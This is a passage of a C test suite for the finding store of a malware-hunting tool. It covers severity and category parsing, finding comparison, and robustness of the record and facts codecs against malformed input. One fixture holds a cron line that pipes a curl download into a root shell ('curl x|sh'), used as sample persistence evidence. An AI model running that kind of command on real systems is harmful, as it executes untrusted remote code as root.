/*
 * Tests of src/hunt/store.c: the names of severities and categories, findings
 * (copy, "same finding"), the record and facts codecs (odd bytes in names,
 * hostile input), and the hunt/ files of a vault: facts merged across files,
 * the newest record of a snapshot, damaged files warned about and skipped.
 */
#include "test.h"
#include "fixture.h"

#include "hunt/hunt.h"

#include <errno.h>

/* ------------------------------------------------------------ helpers */

static cr_id mkid(uint8_t seed)
{
    cr_id id;
    for (int i = 0; i < CR_ID_LEN; i++)
        id.b[i] = (uint8_t)(seed * 31 + i);
    return id;
}

static void set_hex(char out[CR_ID_HEX_LEN + 1], uint8_t seed)
{
    cr_id id = mkid(seed);
    cr_id_to_hex(out, &id);
}

typedef struct warnings {
    int n;
    char last_path[128];
    char last_msg[512];
} warnings;

static void on_warning(const char *path, const char *message, void *payload)
{
    warnings *w = payload;
    w->n++;
    snprintf(w->last_path, sizeof(w->last_path), "%s", path ? path : "");
    snprintf(w->last_msg, sizeof(w->last_msg), "%s", message ? message : "");
}

static int str_eq(const char *a, const char *b)
{
    if (!a || !b)
        return a == b;
    return strcmp(a, b) == 0;
}

static int finding_eq(const cr_finding *a, const cr_finding *b)
{
    return !memcmp(&a->snapshot, &b->snapshot, sizeof(cr_id)) && str_eq(a->source, b->source) &&
           a->time_ns == b->time_ns && str_eq(a->path, b->path) && a->category == b->category &&
           a->severity == b->severity && str_eq(a->indicator, b->indicator) &&
           str_eq(a->detail, b->detail) && str_eq(a->evidence, b->evidence) &&
           a->has_content == b->has_content &&
           (!a->has_content || !memcmp(&a->content, &b->content, sizeof(cr_id))) &&
           !memcmp(&a->first_seen, &b->first_seen, sizeof(cr_id)) &&
           a->first_seen_ns == b->first_seen_ns;
}

static int record_eq(const hn_record *a, const hn_record *b)
{
    if (memcmp(&a->snapshot, &b->snapshot, sizeof(cr_id)) || a->has_pred != b->has_pred ||
        (a->has_pred && memcmp(&a->pred, &b->pred, sizeof(cr_id))) ||
        strcmp(a->ruleset, b->ruleset) || a->hunted_ns != b->hunted_ns ||
        a->nfindings != b->nfindings || a->files_judged != b->files_judged ||
        a->contents_scanned != b->contents_scanned || a->contents_cached != b->contents_cached ||
        a->errors != b->errors || !str_eq(a->source, b->source) || a->time_ns != b->time_ns)
        return 0;
    for (size_t i = 0; i < a->nfindings; i++)
        if (!finding_eq(&a->findings[i], &b->findings[i]))
            return 0;
    return 1;
}

static void finding_init(cr_finding *f, const hn_record *r, const char *path, cr_category cat,
                         cr_severity sev, const char *ind, const char *detail, const char *evidence)
{
    memset(f, 0, sizeof(*f));
    f->snapshot = r->snapshot;
    f->source = r->source ? strdup(r->source) : NULL;
    f->time_ns = r->time_ns;
    f->path = strdup(path);
    f->category = cat;
    f->severity = sev;
    f->indicator = strdup(ind);
    f->detail = detail ? strdup(detail) : NULL;
    f->evidence = evidence ? strdup(evidence) : NULL;
    f->first_seen = r->snapshot;
    f->first_seen_ns = r->time_ns;
}

/* A record of snapshot `seed` with findings on odd names. */
static void make_record(hn_record *r, uint8_t seed, int64_t hunted_ns, size_t nfindings)
{
    static const char *paths[] = {
        "/etc/cron.d/job",
        "/srv/www/a\nb.php",                 /* newline */
        "/home/u/\"quoted\" \\back\\slash",  /* escapes */
        "/data/\xff\xfe\xc3(bad-utf8",       /* invalid UTF-8 */
        "/tmp/\x01\x1b[31mred\x7f",          /* control characters */
        "/srv/caf\xc3\xa9/\xe2\x82\xac.txt", /* valid UTF-8 */
        "/",
    };
    memset(r, 0, sizeof(*r));
    r->snapshot = mkid(seed);
    r->has_pred = seed % 2;
    r->pred = mkid((uint8_t)(seed + 100));
    set_hex(r->ruleset, 7);
    r->hunted_ns = hunted_ns;
    r->source = strdup("dpi-server");
    r->time_ns = 1700000000123456789LL + seed;
    r->files_judged = 12345;
    r->contents_scanned = 678;
    r->contents_cached = 9;
    r->errors = 1;
    r->nfindings = nfindings;
    r->findings = nfindings ? calloc(nfindings, sizeof(cr_finding)) : NULL;
    for (size_t i = 0; i < nfindings; i++) {
        const char *p = paths[i % (sizeof(paths) / sizeof(paths[0]))];
        cr_finding *f = &r->findings[i];
        finding_init(f, r, p, (cr_category)(1 + i % 4), (cr_severity)(i % 5),
                     i % 3 == 0 ? "persistence:cron" : "yara:Webshell_\xe9vil",
                     i % 2 ? "new cron job, not from a package: \xff" : NULL,
                     i % 3 == 0 ? "* * * * * root curl x|sh\t\"q\"" : (i % 3 == 1 ? "" : NULL));
        if (i % 2) {
            f->has_content = 1;
            f->content = mkid((uint8_t)(200 + i));
        }
        if (i % 4 == 3) { /* carried forward from an older snapshot */
            f->first_seen = mkid((uint8_t)(seed - 1));
            f->first_seen_ns = r->time_ns - 86400000000000LL;
        }
    }
    if (nfindings > 2) { /* one finding unlike its record: stored with its own fields */
        cr_finding *f = &r->findings[2];
        free(f->source);
        f->source = strdup("other\xff source");
        f->time_ns = 42;
        f->snapshot = mkid(99);
    }
    if (nfindings > 3) {
        free(r->findings[3].source);
        r->findings[3].source = NULL;
    }
}

static size_t count_hunt_files(cr_repo *repo)
{
    cr_id *ids = NULL;
    size_t n = 0;
    REQUIRE(cr_repo_list(&ids, &n, repo, "hunt") == 0);
    free(ids);
    return n;
}

/* Ids of hunt/ files not in `before` (the newest one written). */
static cr_id newest_file(cr_repo *repo, const cr_id *before, size_t nbefore)
{
    cr_id *ids = NULL, found;
    size_t n = 0, hits = 0;
    memset(&found, 0, sizeof(found));
    REQUIRE(cr_repo_list(&ids, &n, repo, "hunt") == 0);
    for (size_t i = 0; i < n; i++) {
        int known = 0;
        for (size_t j = 0; j < nbefore; j++)
            known |= !memcmp(&ids[i], &before[j], sizeof(cr_id));
        if (!known) {
            found = ids[i];
            hits++;
        }
    }
    free(ids);
    REQUIRE(hits == 1);
    return found;
}

static void flip_byte(const char *vault, const cr_id *file, size_t offset)
{
    char hex[CR_ID_HEX_LEN + 1], path[PATH_MAX];
    uint8_t c;
    pathf(path, "%s/hunt/%s", vault, cr_id_to_hex(hex, file));
    int fd = open(path, O_RDWR);
    REQUIRE(fd >= 0);
    REQUIRE(pread(fd, &c, 1, (off_t)offset) == 1);
    c ^= 0x20;
    REQUIRE(pwrite(fd, &c, 1, (off_t)offset) == 1);
    close(fd);
}

static void facts_init(hn_facts *f, uint8_t seed)
{
    memset(f, 0, sizeof(*f));
    f->content = mkid(seed);
    f->size = 1000u * seed + 1;
}

static void facts_yara(hn_facts *f, uint8_t yid, const char *const *names, size_t n)
{
    f->have |= HN_HAVE_YARA;
    set_hex(f->yara_id, yid);
    f->nyara = n;
    f->yara = n ? calloc(n, sizeof(char *)) : NULL;
    for (size_t i = 0; i < n; i++)
        f->yara[i] = strdup(names[i]);
}

static void facts_free_names(hn_facts *f)
{
    for (size_t i = 0; i < f->nyara; i++)
        free(f->yara[i]);
    free(f->yara);
    f->yara = NULL;
    f->nyara = 0;
}

/* ------------------------------------------------------------ names */

static void test_names(void)
{
    cr_severity s = CR_SEV_INFO;
    cr_category c = CR_CAT_MALWARE;

    CHECK(!strcmp(cr_severity_name(CR_SEV_INFO), "info"));
    CHECK(!strcmp(cr_severity_name(CR_SEV_MEDIUM), "medium"));
    CHECK(!strcmp(cr_severity_name(CR_SEV_CRITICAL), "critical"));
    CHECK(!strcmp(cr_severity_name((cr_severity)9), "unknown"));
    CHECK(cr_severity_parse(&s, "high") == 0 && s == CR_SEV_HIGH);
    CHECK(cr_severity_parse(&s, "CRITICAL") == 0 && s == CR_SEV_CRITICAL);
    CHECK(cr_severity_parse(&s, "Low") == 0 && s == CR_SEV_LOW);
    CHECK(cr_severity_parse(&s, "info") == 0 && s == CR_SEV_INFO);
    s = CR_SEV_MEDIUM;
    CHECK(cr_severity_parse(&s, "severe") == CR_EINPUT && s == CR_SEV_MEDIUM);
    CHECK(cr_severity_parse(&s, "") == CR_EINPUT);
    CHECK(cr_severity_parse(&s, "high ") == CR_EINPUT);
    CHECK(cr_severity_parse(&s, NULL) == CR_EINPUT);
    CHECK(strstr(cr_error_last(), "severity") != NULL);
    for (int i = CR_SEV_INFO; i <= CR_SEV_CRITICAL; i++)
        CHECK(cr_severity_parse(&s, cr_severity_name((cr_severity)i)) == 0 && (int)s == i);

    CHECK(!strcmp(cr_category_name(CR_CAT_RANSOMWARE), "ransomware"));
    CHECK(!strcmp(cr_category_name((cr_category)0), "unknown"));
    CHECK(!strcmp(cr_category_name((cr_category)5), "unknown"));
    CHECK(cr_category_parse(&c, "persistence") == 0 && c == CR_CAT_PERSISTENCE);
    CHECK(cr_category_parse(&c, "Anomaly") == 0 && c == CR_CAT_ANOMALY);
    c = CR_CAT_MALWARE;
    CHECK(cr_category_parse(&c, "virus") == CR_EINPUT && c == CR_CAT_MALWARE);
    CHECK(cr_category_parse(&c, "unknown") == CR_EINPUT);
    for (int i = CR_CAT_MALWARE; i <= CR_CAT_ANOMALY; i++)
        CHECK(cr_category_parse(&c, cr_category_name((cr_category)i)) == 0 && (int)c == i);
}

/* ------------------------------------------------------------ findings */

static void test_finding_same_copy(void)
{
    hn_record r;
    cr_finding a, b, c;
    memset(&r, 0, sizeof(r));
    r.snapshot = mkid(1);
    finding_init(&a, &r, "/etc/crontab", CR_CAT_PERSISTENCE, CR_SEV_HIGH, "persistence:cron",
                 "new line", "* * * * * root x");
    finding_init(&b, &r, "/etc/crontab", CR_CAT_PERSISTENCE, CR_SEV_INFO, "persistence:cron",
                 "other words", "* * * * * root x");
    b.snapshot = mkid(2);
    b.time_ns = 5;
    CHECK(cr_finding_same(&a, &b)); /* severity, detail, snapshot do not matter */

    free(b.evidence);
    b.evidence = strdup("* * * * * root y");
    CHECK(!cr_finding_same(&a, &b));
    free(b.evidence);
    b.evidence = NULL;
    CHECK(!cr_finding_same(&a, &b));
    CHECK(!cr_finding_same(&b, &a));
    free(a.evidence);
    a.evidence = NULL;
    CHECK(cr_finding_same(&a, &b)); /* NULL equals NULL */
    b.evidence = strdup("");
    CHECK(!cr_finding_same(&a, &b)); /* but not "" */
    free(b.evidence);
    b.evidence = NULL;

    b.category = CR_CAT_MALWARE;
    CHECK(!cr_finding_same(&a, &b));
    b.category = CR_CAT_PERSISTENCE;
    free(b.indicator);
    b.indicator = strdup("persistence:systemd");
    CHECK(!cr_finding_same(&a, &b));
    free(b.indicator);
    b.indicator = strdup("persistence:cron");
    free(b.path);
    b.path = strdup("/etc/crontab2");
    CHECK(!cr_finding_same(&a, &b));

    a.has_content = 1;
    a.content = mkid(3);
    a.source = strdup("src");
    CHECK_OK(cr_finding_copy(&c, &a));
    CHECK(finding_eq(&a, &c));
    CHECK(c.path != a.path && c.source != a.source && c.indicator != a.indicator);
    CHECK(c.evidence == NULL && c.detail && c.detail != a.detail);
    cr_finding_clear(&c);
    CHECK(c.path == NULL && c.indicator == NULL);
    cr_finding_clear(&c); /* twice is harmless */

    cr_finding *arr = calloc(2, sizeof(*arr));
    REQUIRE(arr);
    CHECK_OK(cr_finding_copy(&arr[0], &a));
    CHECK_OK(cr_finding_copy(&arr[1], &b));
    cr_findings_free(arr, 2);
    cr_findings_free(NULL, 3);
    cr_finding_clear(&a);
    cr_finding_clear(&b);
}

/* ------------------------------------------------------------ record codec */

static void test_record_roundtrip(void)
{
    hn_record r, d;
    cr_buf b = CR_BUF_INIT, b2 = CR_BUF_INIT;

    make_record(&r, 10, 1800000000000000000LL, 14);
    CHECK_OK(hn_record_encode(&b, &r));
    CHECK_OK(hn_record_decode(&d, b.ptr, b.len));
    CHECK(record_eq(&r, &d));
    /* invalid UTF-8 is stored losslessly in the hex form */
    CHECK(memmem(b.ptr, b.len, "{\"x\":", 5) != NULL);
    /* every finding on its own line: header + 14 */
    size_t nl = 0;
    for (size_t i = 0; i < b.len; i++)
        nl += b.ptr[i] == '\n';
    CHECK(nl == 15);
    /* decode(encode(decode(x))) is stable */
    CHECK_OK(hn_record_encode(&b2, &d));
    CHECK(b2.len == b.len && !memcmp(b.ptr, b2.ptr, b.len));
    hn_record_clear(&d);
    CHECK(d.findings == NULL && d.nfindings == 0 && d.source == NULL);
    hn_record_clear(&r);

    /* The usual record: findings of the record's own snapshot store no ids or times. */
    make_record(&r, 11, 1, 2);
    CHECK_OK(hn_record_encode(&b, &r));
    {
        const char *second = memchr(b.ptr, '\n', b.len);
        REQUIRE(second);
        size_t rest = b.len - (size_t)(second - (const char *)b.ptr);
        CHECK(!memmem(second, rest, "\"snap\"", 6) && !memmem(second, rest, "\"src\"", 5) &&
              !memmem(second, rest, "\"t\"", 3) && !memmem(second, rest, "\"fs\"", 4));
    }
    CHECK_OK(hn_record_decode(&d, b.ptr, b.len));
    CHECK(record_eq(&r, &d));
    CHECK(d.findings[0].source && d.findings[0].source != d.source);
    hn_record_clear(&d);
    hn_record_clear(&r);

    /* No finding, no pred, no source. */
    make_record(&r, 12, -5, 0);
    free(r.source);
    r.source = NULL;
    r.has_pred = 0;
    CHECK_OK(hn_record_encode(&b, &r));
    CHECK_OK(hn_record_decode(&d, b.ptr, b.len));
    CHECK(record_eq(&r, &d) && d.source == NULL && !d.has_pred && d.findings == NULL);
    hn_record_clear(&d);
    hn_record_clear(&r);

    /* A path of 64 KiB is stored; one byte more is refused by the encoder. */
    make_record(&r, 13, 1, 1);
    free(r.findings[0].path);
    r.findings[0].path = malloc(64 * 1024 + 2);
    REQUIRE(r.findings[0].path);
    memset(r.findings[0].path, 'a', 64 * 1024);
    r.findings[0].path[0] = '/';
    r.findings[0].path[64 * 1024] = 0;
    CHECK_OK(hn_record_encode(&b, &r));
    CHECK_OK(hn_record_decode(&d, b.ptr, b.len));
    CHECK(record_eq(&r, &d));
    hn_record_clear(&d);
    /* Longer strings are cut to the limits (a hostile name must not stop a hunt). */
    r.findings[0].path[64 * 1024] = 'a';
    r.findings[0].path[64 * 1024 + 1] = 0;
    free(r.findings[0].evidence);
    r.findings[0].evidence = malloc(100000);
    REQUIRE(r.findings[0].evidence);
    memset(r.findings[0].evidence, 'e', 99999);
    r.findings[0].evidence[0] = '\xff'; /* and not UTF-8: cut in its hex form */
    r.findings[0].evidence[99999] = 0;
    free(r.source);
    r.source = malloc(300);
    REQUIRE(r.source);
    memset(r.source, 's', 299);
    r.source[299] = 0;
    CHECK_OK(hn_record_encode(&b, &r));
    CHECK_OK(hn_record_decode(&d, b.ptr, b.len));
    CHECK(d.nfindings == 1 && strlen(d.findings[0].path) == 64 * 1024 &&
          !strncmp(d.findings[0].path, r.findings[0].path, 64 * 1024));
    CHECK(d.nfindings == 1 && strlen(d.findings[0].evidence) == 64 * 1024 &&
          !strncmp(d.findings[0].evidence, r.findings[0].evidence, 64 * 1024));
    CHECK(d.source && strlen(d.source) == 255 && str_eq(d.findings[0].source, "dpi-server"));
    hn_record_clear(&d);
    r.findings[0].path[0] = 0; /* empty path */
    CHECK(hn_record_encode(&b, &r) == CR_EINPUT);
    hn_record_clear(&r);

    /* Out-of-range enums and a bad rule-set id are refused. */
    make_record(&r, 14, 1, 1);
    r.findings[0].severity = (cr_severity)7;
    CHECK(hn_record_encode(&b, &r) == CR_EINPUT);
    r.findings[0].severity = CR_SEV_LOW;
    r.findings[0].category = (cr_category)0;
    CHECK(hn_record_encode(&b, &r) == CR_EINPUT);
    r.findings[0].category = CR_CAT_ANOMALY;
    CHECK_OK(hn_record_encode(&b, &r));
    r.ruleset[3] = 'g';
    CHECK(hn_record_encode(&b, &r) == CR_EINPUT);
    hn_record_clear(&r);

    cr_buf_free(&b);
    cr_buf_free(&b2);
}

/* Decode must refuse these without crashing (and leave *out empty). */
static void expect_bad(const char *text, int code)
{
    hn_record d;
    int rc = hn_record_decode(&d, text, strlen(text));
    if (rc != code)
        fprintf(stderr, "decode of %.120s: %d, expected %d\n", text, rc, code);
    CHECK(rc == code);
    CHECK(d.findings == NULL && d.source == NULL && d.nfindings == 0);
}

#define H64A "0101010101010101010101010101010101010101010101010101010101010101"
#define H64B "abababababababababababababababababababababababababababababababab"
#define HDR(n)                                                                                     \
    "{\"type\":\"hunt-record\",\"version\":1,\"snapshot\":\"" H64A "\",\"ruleset\":\"" H64B        \
    "\",\"hunted_ns\":5,\"time_ns\":6,\"files_judged\":0,\"contents_scanned\":0,"                  \
    "\"contents_cached\":0,\"errors\":0,\"findings\":" #n "}\n"
#define FND(extra)                                                                                 \
    "{\"p\":\"/x\",\"cat\":\"malware\",\"sev\":\"high\",\"ind\":\"yara:x\"" extra "}\n"

static void test_record_garbage(void)
{
    hn_record d;
    cr_buf b = CR_BUF_INIT;

    /* the hand-written reference decodes */
    CHECK_OK(hn_record_decode(&d, HDR(1) FND(""), strlen(HDR(1) FND(""))));
    CHECK(d.nfindings == 1 && !strcmp(d.findings[0].path, "/x") && d.findings[0].time_ns == 6 &&
          d.findings[0].first_seen_ns == 6 && d.findings[0].source == NULL &&
          d.findings[0].category == CR_CAT_MALWARE && d.findings[0].severity == CR_SEV_HIGH &&
          !d.findings[0].has_content && d.findings[0].detail == NULL);
    hn_record_clear(&d);
    CHECK(hn_record_decode(&d, HDR(1) FND(""), 0) == CR_ECORRUPT); /* length 0 */
    {
        /* duplicate key "p" */
        const char *t = HDR(1) FND(",\"p\":\"/y\"");
        CHECK(hn_record_decode(&d, t, strlen(t)) == CR_ECORRUPT);
    }
    {
        const char *t = HDR(1) "{\"p\":{\"x\":\"2f0aff\"},\"cat\":\"ransomware\",\"sev\":"
                               "\"critical\",\"ind\":\"i\",\"src\":null,\"fst\":-1}\n";
        CHECK_OK(hn_record_decode(&d, t, strlen(t)));
        CHECK(d.nfindings == 1 && !strcmp(d.findings[0].path, "/\n\xff") &&
              d.findings[0].first_seen_ns == -1);
        hn_record_clear(&d);
    }

    expect_bad("", CR_ECORRUPT);
    expect_bad("\n", CR_ECORRUPT);
    expect_bad("{}\n", CR_ECORRUPT);
    expect_bad("[1,2]\n", CR_ECORRUPT);
    expect_bad("garbage\x01\x02\xff", CR_ECORRUPT);
    CHECK_OK(hn_record_decode(&d, HDR(0), strlen(HDR(0)))); /* valid: no finding */
    CHECK(d.nfindings == 0 && d.findings == NULL && d.hunted_ns == 5 && !d.has_pred);
    hn_record_clear(&d);
    expect_bad(HDR(1), CR_ECORRUPT);                 /* count says 1, no line */
    expect_bad(HDR(0) FND(""), CR_ECORRUPT);         /* an extra line */
    expect_bad(HDR(1) FND("") FND(""), CR_ECORRUPT); /* count mismatch */
    expect_bad(HDR(99999999999) FND(""), CR_ECORRUPT);
    expect_bad(HDR(-1), CR_ECORRUPT);
    {
        char t[sizeof(HDR(1) FND(""))];
        snprintf(t, sizeof(t), "%s", HDR(1) FND(""));
        t[strlen(t) - 1] = 0; /* unterminated last line */
        expect_bad(t, CR_ECORRUPT);
    }
    expect_bad("{\"type\":\"hunt-record\",\"version\":2}\n", CR_EVERSION);
    expect_bad("{\"type\":\"hunt-facts\",\"version\":1}\n", CR_ECORRUPT);
    expect_bad(HDR(1) FND(",\"c\":\"0101\""), CR_ECORRUPT);
    expect_bad(HDR(1) FND(",\"fs\":\"" H64A "zz\""), CR_ECORRUPT);
    expect_bad(HDR(1) FND(",\"d\":\"a\\u0000b\""), CR_ECORRUPT);
    expect_bad(HDR(1) FND(",\"e\":{\"x\":\"610062\"}"), CR_ECORRUPT); /* NUL in hex form */
    expect_bad(HDR(1) FND(",\"e\":{\"x\":\"6\"}"), CR_ECORRUPT);      /* odd length */
    expect_bad(HDR(1) FND(",\"e\":{\"x\":\"zz\"}"), CR_ECORRUPT);
    expect_bad(HDR(1) FND(",\"e\":{\"x\":\"61\",\"y\":1}"), CR_ECORRUPT);
    expect_bad(HDR(1) FND(",\"e\":7"), CR_ECORRUPT);
    expect_bad(HDR(1) FND(",\"t\":1.5"), CR_ECORRUPT);
    expect_bad(HDR(1) "{\"p\":\"\",\"cat\":\"malware\",\"sev\":\"high\",\"ind\":\"i\"}\n",
               CR_ECORRUPT);
    expect_bad(HDR(1) "{\"p\":\"/x\",\"cat\":\"virus\",\"sev\":\"high\",\"ind\":\"i\"}\n",
               CR_ECORRUPT);
    expect_bad(HDR(1) "{\"p\":\"/x\",\"cat\":\"malware\",\"sev\":3,\"ind\":\"i\"}\n", CR_ECORRUPT);
    expect_bad(HDR(1) "{\"p\":\"/x\",\"cat\":\"malware\",\"sev\":\"high\"}\n", CR_ECORRUPT);
    expect_bad(HDR(1) "[]\n", CR_ECORRUPT);
    expect_bad("{\"type\":\"hunt-record\",\"version\":1,\"snapshot\":\"" H64A
               "\",\"ruleset\":\"abc\",\"hunted_ns\":5,\"time_ns\":6,\"files_judged\":0,"
               "\"contents_scanned\":0,\"contents_cached\":0,\"errors\":0,\"findings\":0}\n",
               CR_ECORRUPT);
    expect_bad("{\"type\":\"hunt-record\",\"version\":1,\"snapshot\":\"" H64A
               "\",\"ruleset\":\"" H64B "\",\"hunted_ns\":5,\"time_ns\":6,\"files_judged\":-1,"
               "\"contents_scanned\":0,\"contents_cached\":0,\"errors\":0,\"findings\":0}\n",
               CR_ECORRUPT);

    /* A path over 64 KiB in the file is refused. */
    {
        size_t n = 64 * 1024 + 1;
        cr_buf t = CR_BUF_INIT;
        REQUIRE(cr_buf_put(&t, HDR(1), strlen(HDR(1))) == 0);
        REQUIRE(cr_buf_put(&t, "{\"p\":\"/", 7) == 0);
        for (size_t i = 1; i < n; i++)
            REQUIRE(cr_buf_put_u8(&t, 'a') == 0);
        const char *tail = "\",\"cat\":\"malware\",\"sev\":\"high\",\"ind\":\"i\"}\n";
        REQUIRE(cr_buf_put(&t, tail, strlen(tail)) == 0);
        CHECK(hn_record_decode(&d, t.ptr, t.len) == CR_ECORRUPT);
        t.len -= strlen(tail) + 1; /* one 'a' less: exactly 64 KiB */
        REQUIRE(cr_buf_put(&t, tail, strlen(tail)) == 0);
        CHECK_OK(hn_record_decode(&d, t.ptr, t.len));
        CHECK(d.nfindings == 1 && strlen(d.findings[0].path) == 64 * 1024);
        hn_record_clear(&d);
        cr_buf_free(&t);
    }

    /* Every prefix and every single-byte change of a real record: no crash, and what
     * decodes encodes again. */
    hn_record r;
    make_record(&r, 20, 3, 5);
    REQUIRE(hn_record_encode(&b, &r) == 0);
    size_t ok_prefix = 0;
    for (size_t len = 0; len < b.len; len++) {
        if (hn_record_decode(&d, b.ptr, len) == 0) {
            ok_prefix++;
            hn_record_clear(&d);
        }
    }
    CHECK(ok_prefix == 0);
    cr_buf re = CR_BUF_INIT;
    for (size_t i = 0; i < b.len; i += 3) {
        uint8_t save = b.ptr[i];
        b.ptr[i] = (uint8_t)(save ^ (i & 1 ? 0x01 : 0x80));
        if (hn_record_decode(&d, b.ptr, b.len) == 0) {
            CHECK_OK(hn_record_encode(&re, &d));
            hn_record_clear(&d);
        }
        b.ptr[i] = save;
    }
    cr_buf_free(&re);
    hn_record_clear(&r);
    /* random bytes */
    uint8_t junk[512];
    for (int k = 0; k < 200; k++) {
        fill_random(junk, sizeof(junk));
        if (k % 2)
            junk[sizeof(junk) - 1] = '\n';
        CHECK(hn_record_decode(&d, junk, sizeof(junk)) < 0);
    }
    cr_buf_free(&b);
}

/* ------------------------------------------------------------ facts codec */

static void test_facts_codec(void)
{
    hn_cache *c = NULL, *d = NULL;
    hn_facts f;
    cr_buf b = CR_BUF_INIT;
    size_t n;
    cr_id file = mkid(1);
    static const char *const names[] = {"Webshell_PHP_Generic", "ns1:Ransom_Note"};

    REQUIRE(hn_cache_new(&c) == 0);
    facts_init(&f, 1);
    f.have = HN_HAVE_HEAD | HN_HAVE_MD5 | HN_HAVE_SHA1 | HN_HAVE_SHA256;
    f.entropy = 7.99812345678901234;
    f.head_len = HN_HEAD_BYTES;
    f.magic_len = HN_MAGIC_BYTES;
    for (int i = 0; i < HN_MAGIC_BYTES; i++)
        f.magic[i] = (uint8_t)(i * 3);
    memset(f.md5, 0xa5, sizeof(f.md5));
    memset(f.sha1, 0x5a, sizeof(f.sha1));
    memset(f.sha256, 0x77, sizeof(f.sha256));
    facts_yara(&f, 3, names, 2);
    f.partial = 1;
    CHECK_OK(hn_cache_put(c, &f));
    facts_free_names(&f);

    facts_init(&f, 2); /* knows nothing but its size: empty file */
    f.size = 0;
    f.have = HN_HAVE_HEAD;
    f.head_len = 0;
    f.magic_len = 0;
    CHECK_OK(hn_cache_put(c, &f));
    facts_init(&f, 3);
    facts_yara(&f, 4, NULL, 0); /* scanned, nothing matched */
    CHECK_OK(hn_cache_put(c, &f));
    facts_free_names(&f);
    CHECK(hn_cache_count(c) == 3);

    CHECK_OK(hn_cache_encode(&b, &n, c, 1, 77));
    CHECK(n == 3);
    CHECK(memmem(b.ptr, b.len, "\"md5\"", 5) != NULL); /* present for content 1 */
    REQUIRE(hn_cache_new(&d) == 0);
    CHECK_OK(hn_cache_merge_file(d, b.ptr, b.len, &file));
    CHECK(hn_cache_count(d) == 3);
    for (uint8_t s = 1; s <= 3; s++) {
        cr_id id = mkid(s);
        hn_facts *x = hn_cache_get(c, &id), *y = hn_cache_get(d, &id);
        REQUIRE(x && y);
        CHECK(x->size == y->size && x->have == y->have && x->entropy == y->entropy &&
              x->head_len == y->head_len && x->magic_len == y->magic_len &&
              !memcmp(x->magic, y->magic, x->magic_len) && x->partial == y->partial);
        if (x->have & HN_HAVE_MD5)
            CHECK(!memcmp(x->md5, y->md5, 16) && !memcmp(x->sha1, y->sha1, 20) &&
                  !memcmp(x->sha256, y->sha256, 32));
        if (x->have & HN_HAVE_YARA) {
            CHECK(!strcmp(x->yara_id, y->yara_id) && x->nyara == y->nyara);
            for (size_t i = 0; i < x->nyara && i < y->nyara; i++)
                CHECK(!strcmp(x->yara[i], y->yara[i]));
        }
    }
    {
        cr_id id = mkid(1);
        hn_facts *y = hn_cache_get(d, &id);
        CHECK(y->nyara == 2 && !strcmp(y->yara[1], "ns1:Ransom_Note") && y->partial == 1 &&
              y->entropy == 7.99812345678901234);
    }
    /* nothing of d is dirty: loaded facts are not written again */
    CHECK_OK(hn_cache_encode(&b, &n, d, 1, 78));
    CHECK(n == 0);
    CHECK_OK(hn_cache_encode(&b, &n, d, 0, 78));
    CHECK(n == 3);

    /* Out-of-range facts are refused by put. */
    facts_init(&f, 9);
    f.have = HN_HAVE_HEAD;
    f.entropy = 8.5;
    CHECK(hn_cache_put(c, &f) == CR_EINPUT);
    f.entropy = 1;
    f.magic_len = HN_MAGIC_BYTES + 1;
    CHECK(hn_cache_put(c, &f) == CR_EINPUT);
    f.magic_len = 4;
    f.have = 64;
    CHECK(hn_cache_put(c, &f) == CR_EINPUT);
    f.have = HN_HAVE_YARA; /* no rule-set id */
    CHECK(hn_cache_put(c, &f) == CR_EINPUT);
    CHECK(hn_cache_count(c) == 3);

    /* Garbage: refused, and all or nothing (a bad last line adds nothing). */
    static const char *bad[] = {
        "",
        "\n",
        "{\"type\":\"hunt-facts\",\"version\":1,\"saved_ns\":1,\"facts\":1}\n",
        "{\"type\":\"hunt-facts\",\"version\":1,\"saved_ns\":1,\"facts\":1}\n{\"c\":\"" H64A
        "\",\"s\":1,\"h\":0}\n{\"c\":\"" H64B "\",\"s\":1,\"h\":0}\n",
        "{\"type\":\"hunt-facts\",\"version\":1,\"saved_ns\":1,\"facts\":2}\n{\"c\":\"" H64A
        "\",\"s\":1,\"h\":0}\n{\"c\":\"" H64B "\",\"s\":1,\"h\":2}\n", /* md5 flag, no md5 */
        "{\"type\":\"hunt-facts\",\"version\":1,\"saved_ns\":1,\"facts\":2}\n{\"c\":\"" H64A
        "\",\"s\":1,\"h\":0}\n{\"c\":\"" H64B "\",\"s\":-1,\"h\":0}\n",
        "{\"type\":\"hunt-facts\",\"version\":1,\"saved_ns\":1,\"facts\":2}\n{\"c\":\"" H64A
        "\",\"s\":1,\"h\":0}\n{\"c\":\"" H64B "\",\"s\":1,\"h\":1,\"e\":9,\"hl\":1,\"m\":\"\"}\n",
        "{\"type\":\"hunt-facts\",\"version\":1,\"saved_ns\":1,\"facts\":2}\n{\"c\":\"" H64A
        "\",\"s\":1,\"h\":0}\n{\"c\":\"" H64B "\",\"s\":1,\"h\":16,\"y\":\"" H64A
        "\",\"yr\":[\"\"]}\n",
        "{\"type\":\"hunt-facts\",\"version\":1,\"saved_ns\":1,\"facts\":2}\n{\"c\":\"" H64A
        "\",\"s\":1,\"h\":0}\n{\"c\":\"" H64B "\",\"s\":1,\"h\":32}\n",
        "{\"type\":\"hunt-facts\",\"version\":1,\"saved_ns\":1,\"facts\":2}\n{\"c\":\"" H64A
        "\",\"s\":1,\"h\":0}\n{\"c\":\"" H64B
        "\",\"s\":1,\"h\":1,\"e\":1,\"hl\":1,\"m\":\"abc\"}\n",
        "{\"type\":\"hunt-facts\",\"version\":1,\"saved_ns\":1,\"facts\":2}\n{\"c\":\"" H64A
        "\",\"s\":1,\"h\":0}\n{\"c\":\"" H64B "\",\"s\":1,\"h\":0,\"pt\":1}\n",
        "{\"type\":\"hunt-record\",\"version\":1,\"saved_ns\":1,\"facts\":0}\n",
    };
    hn_cache *e = NULL;
    REQUIRE(hn_cache_new(&e) == 0);
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        int rc = hn_cache_merge_file(e, bad[i], strlen(bad[i]), &file);
        if (rc != CR_ECORRUPT)
            fprintf(stderr, "facts garbage %zu: %d\n", i, rc);
        CHECK(rc == CR_ECORRUPT);
    }
    CHECK(hn_cache_count(e) == 0);
    const char *v2 = "{\"type\":\"hunt-facts\",\"version\":2}\n";
    CHECK(hn_cache_merge_file(e, v2, strlen(v2), &file) == CR_EVERSION);
    /* every prefix and byte change of a real file: no crash */
    CHECK_OK(hn_cache_encode(&b, &n, c, 0, 5));
    for (size_t len = 0; len < b.len; len++)
        CHECK(hn_cache_merge_file(e, b.ptr, len, &file) < 0);
    CHECK(hn_cache_count(e) == 0);
    for (size_t i = 0; i < b.len; i += 2) {
